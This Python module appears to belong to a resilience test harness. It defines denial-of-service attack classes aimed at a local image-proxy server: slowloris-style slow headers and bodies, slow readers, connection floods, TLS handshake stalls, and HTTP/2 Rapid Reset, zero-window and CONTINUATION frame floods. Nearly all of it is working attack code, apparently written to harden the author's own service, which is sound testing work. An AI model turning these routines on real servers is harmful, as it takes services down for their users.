"""Clients that read nothing, send slowly, or come in masses; over TLS also HTTP/2's own tricks."""

import select, socket, struct, time, urllib.parse

import wire
from attack import Attack, abandon, attack


def large(scene, number):
    """The address of one of four pictures of 30 MB."""
    url = urllib.parse.quote(f"http://{scene.honest}/file/large.png/{number % 4}", safe="")
    return f"/t/p/original/web/{url}.png"


class Held(Attack):
    """Opens `many` connections, then looks after them until the server ends them; those are counted and opened anew."""
    many = 40
    threads = 1
    pause = 0.05
    limit = 90                      # seconds after which a connection that the server leaves open is given up

    def prepare(self):
        self.open = []

    def begin(self, random):
        """A connection that does harm."""
        raise NotImplementedError

    def tend(self, connection, random):
        """What a connection does from time to time."""

    def turn(self, random):
        for _ in range(8):
            if len(self.open) < self.many:
                try:
                    self.open.append((self.begin(random), time.monotonic()))
                    self.count("opened")
                except TimeoutError:
                    self.count("not accepted in time")
                except OSError as error:
                    self.count(f"refused ({type(error).__name__})")
        kept = []
        for connection, since in self.open:
            try:
                self.tend(connection, random)
                plain = connection.socket if isinstance(connection, wire.HTTP2) else connection
                readable, _, _ = select.select([plain], [], [], 0)
                if readable and self.is_over(plain):
                    raise wire.Broken
                if time.monotonic() - since > self.limit:
                    self.count("left open by the server")
                    raise wire.Broken
                kept.append((connection, since))
            except (OSError, ValueError):
                self.count("ended")
                (connection.close if isinstance(connection, wire.HTTP2) else lambda: abandon(connection))()
        self.open = kept

    def is_over(self, plain):
        """Whether the server ended a connection of which nothing is read otherwise."""
        try:
            plain.setblocking(False)
            return plain.recv(65536) == b""
        except (BlockingIOError, wire.ssl.SSLWantReadError):
            return False


@attack
class SlowReaders(Held):
    name = "slow-readers"
    what = "40 connections that ask for 30 MB each and read nothing"
    many = 40

    def begin(self, random):
        connection = self.target.connect(self.address(random), 10, receive=4096)
        connection.sendall(f"GET {large(self.scene, random.randrange(4))} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
        return connection

    def is_over(self, plain): return False

    def tend(self, connection, random):
        # The end shows without reading: by an error or a hang-up.
        poll = select.poll()
        poll.register(connection, select.POLLHUP | select.POLLERR | select.POLLRDHUP)
        if poll.poll(0):
            raise wire.Broken


@attack
class SlowHeads(Held):
    name = "slow-heads"
    what = "400 connections that send a byte of a head each second"
    many = 400

    def begin(self, random):
        connection = self.target.connect(self.address(random), 10)
        connection.sendall(b"GET /t/p/w92/sample/1.jpg HTTP/1.1\r\nHost: localhost\r\nX: ")
        return connection

    def tend(self, connection, random):
        if random.random() < 0.05:
            connection.settimeout(1)
            connection.sendall(b"x")


@attack
class SlowBodies(Held):
    name = "slow-bodies"
    what = "200 connections that send a body byte by byte"
    many = 200

    def begin(self, random):
        connection = self.target.connect(self.address(random), 10)
        connection.sendall(b"POST /prefetch HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + self.scene.token.encode() +
                           b"\r\nContent-Length: 60000\r\n\r\n{")
        return connection

    def tend(self, connection, random):
        if random.random() < 0.05:
            connection.settimeout(1)
            connection.sendall(b" ")


@attack
class Pipelines(Held):
    name = "pipelining"
    what = "20 connections that send hundreds of requests at once and read nothing, or read all"
    many = 20
    limit = 20

    def begin(self, random):
        connection = self.target.connect(self.address(random), 10)
        one = f"GET /t/p/w500/sample/{random.randrange(1, 20)}.jpg HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
        connection.settimeout(2)
        try:
            connection.sendall(one * 500)
        except TimeoutError:
            pass
        return connection

    def is_over(self, plain):
        return False if hash(plain) % 2 else super().is_over(plain)


@attack
class FloodFromOne(Held):
    name = "flood-one"
    what = "1,500 connections from one address that say nothing or ask once and stay"
    many = 1500

    def address(self, random): return "127.0.9.1"

    def begin(self, random):
        connection = self.target.connect(self.address(random), 2, raw=True)
        if random.random() < 0.5 and not self.target.tls:
            connection.sendall(b"GET /t/p/w92/sample/1.jpg HTTP/1.1\r\nHost: localhost\r\n\r\n")
        return connection


@attack
class FloodFromMany(Held):
    name = "flood-many"
    what = "600 connections from 200 addresses that say nothing"
    many = 600

    def address(self, random): return f"127.0.10.{random.randrange(1, 201)}"

    def begin(self, random): return self.target.connect(self.address(random), 2, raw=True)


@attack
class Resets(Attack):
    name = "resets"
    what = "connections that are reset at once, in the middle of a head, or while the answer is made"
    threads = 2
    pause = 0.005

    def turn(self, random):
        connection = self.target.connect(self.address(random), 5)
        kind = random.randrange(3)
        if kind == 1:
            connection.sendall(b"GET /t/p/w92/sam")
        elif kind == 2:
            connection.sendall(f"GET {self.scene.image(f'http://{self.scene.honest}/good/600x900/{self.next()}.jpg')} HTTP/1.1\r\nHost: l\r\n\r\n".encode())
            time.sleep(random.random() * 0.01)
        abandon(connection)
        self.count("reset")


# --- TLS and HTTP/2 --------------------------------------------------------------------------------------------------------------

@attack
class Handshakes(Held):
    name = "tls-handshakes"
    what = "300 handshakes that are begun and not ended"
    tls = True
    many = 300

    def begin(self, random):
        connection = self.target.connect(self.address(random), 5, raw=True)
        connection.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"[:random.randrange(1, 12)])
        return connection


@attack
class Windows(Held):
    name = "h2-window"
    what = "HTTP/2 connections with a window of 0 and 100 streams that ask for 30 MB each"
    tls = True
    many = 6

    def begin(self, random):
        connection = wire.HTTP2(self.target, self.address(random), window=0)
        connection.send(*(connection.open(large(self.scene, n))[1] for n in range(100)))
        return connection

    def tend(self, connection, random):
        connection.drain(0)

    def is_over(self, plain): return False


@attack
class RapidReset(Attack):
    name = "h2-rapid-reset"
    what = "streams that are opened and reset at once, a hundred at a time"
    tls = True
    pause = 0.01

    def turn(self, random):
        connection = wire.HTTP2(self.target, self.address(random))
        try:
            for _ in range(50):
                frames = []
                for _ in range(100):
                    path = self.scene.image(f"http://{self.scene.honest}/good/60x90/{self.next()}.png")
                    stream, frame = connection.open(path)
                    frames += [frame, wire.frame(wire.RST_STREAM, 0, stream, struct.pack(">I", 8))]
                connection.send(*frames)
                self.count("streams", 100)
                connection.drain(0)
        except OSError:
            self.count("ended by the server")
        finally:
            connection.close()


@attack
class Frames(Attack):
    name = "h2-frames"
    what = "floods of PING, SETTINGS, DATA without a byte or of one, PRIORITY, WINDOW_UPDATE, and heads without an end (CONTINUATION)"
    tls = True
    pause = 0.02

    def turn(self, random):
        connection = wire.HTTP2(self.target, self.address(random))
        kind = random.choice(["ping", "settings", "data", "priority", "window", "continuation", "bytes", "noise"])
        try:
            for _ in range(200):
                if kind == "ping":
                    frames = [wire.frame(wire.PING, 0, 0, bytes(8))] * 500
                elif kind == "settings":
                    frames = [wire.frame(wire.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))] * 500
                elif kind == "data":
                    stream, head = connection.open("/prefetch", end=False)
                    frames = [head] + [wire.frame(wire.DATA, 0, stream)] * 500
                elif kind == "bytes":
                    stream, head = connection.open("/prefetch", end=False)
                    frames = [head] + [wire.frame(wire.DATA, 0, stream, b"x")] * 500
                elif kind == "priority":
                    frames = [wire.frame(wire.PRIORITY, 0, 1, bytes(4) + b"\x10")] * 500
                elif kind == "window":
                    frames = [wire.frame(wire.WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1))] * 10
                elif kind == "continuation":
                    stream, connection.stream = connection.stream, connection.stream + 2
                    frames = [wire.frame(wire.HEADERS, 0, stream, wire.get_block("/"))]
                    frames += [wire.frame(wire.CONTINUATION, 0, stream, wire.fields_block(("x", "y" * 1000)))] * 200
                else:
                    frames = [random.randbytes(5000)]
                connection.send(*frames)
                self.count(kind)
                connection.drain(0)
        except OSError:
            self.count(f"{kind} ended by the server")
        finally:
            connection.close()
